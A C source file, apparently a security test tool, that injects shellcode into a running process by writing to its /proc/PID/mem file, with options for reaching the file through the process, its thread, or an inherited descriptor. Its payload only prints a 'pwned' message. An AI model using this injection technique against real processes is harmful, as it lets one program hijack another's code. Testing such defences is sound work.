// SPDX-License-Identifier: GPL-2.0
/*
 * Injects code into a running process by writing its /proc/PID/mem, which
 * overwrites even read-only code.
 *
 *	proc_mem_inject [--via pid|task|inherited] [--procfs DIR] PID ADDRESS
 *
 * --via says how the file is reached: by the process, by its thread, or by a
 * descriptor that a child has inherited, which then does the writing.
 * --procfs names another mount of procfs than /proc.
 */
#include "arch.h"
#include "common.h"

#include <fcntl.h>
#include <getopt.h>
#include <sys/wait.h>

enum via { VIA_PID, VIA_TASK, VIA_INHERITED };

static const char *const vias[] = { "pid", "task", "inherited", NULL };

static int open_mem(const char *procfs, pid_t pid, enum via via)
{
	char path[4096];
	int fd;

	if (via == VIA_TASK)
		snprintf(path, sizeof(path), "%s/%d/task/%d/mem", procfs, pid,
			 pid);
	else
		snprintf(path, sizeof(path), "%s/%d/mem", procfs, pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		err(1, "%s", path);
	return fd;
}

static int inject(int fd, pid_t pid, unsigned long address)
{
	unsigned char code[SHELLCODE_MAX];
	char message[64];
	ssize_t written;

	pwned_message(sizeof(message), message);
	written = pwrite(fd, code, shellcode_build(code, message, 0), address);
	if (written < 0)
		err(1, "write at %#lx", address);

	printf("proc_mem_inject pid=%d target=%d address=%#lx count=1 bytes=%zd\n",
	       getpid(), pid, address, written);
	return 0;
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "via", required_argument, NULL, 'v' },
		{ "procfs", required_argument, NULL, 'p' },
		{ 0 },
	};
	const char *procfs = "/proc";
	enum via via = VIA_PID;
	unsigned long address;
	int option, status, fd;
	pid_t pid, child;

	while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (option == 'v')
			via = parse_word("--via", optarg, vias);
		else if (option == 'p')
			procfs = optarg;
		else
			return 2;
	}
	if (optind + 2 != argc)
		errx(2, "usage: %s [options] PID ADDRESS", argv[0]);
	pid = parse_number("PID", argv[optind]);
	address = parse_number("ADDRESS", argv[optind + 1]);

	fd = open_mem(procfs, pid, via);
	if (via != VIA_INHERITED)
		return inject(fd, pid, address);

	child = fork();
	if (child < 0)
		err(1, "fork");
	if (!child)
		return inject(fd, pid, address);
	if (waitpid(child, &status, 0) != child || !WIFEXITED(status))
		errx(1, "the child did not come back");
	return WEXITSTATUS(status);
}
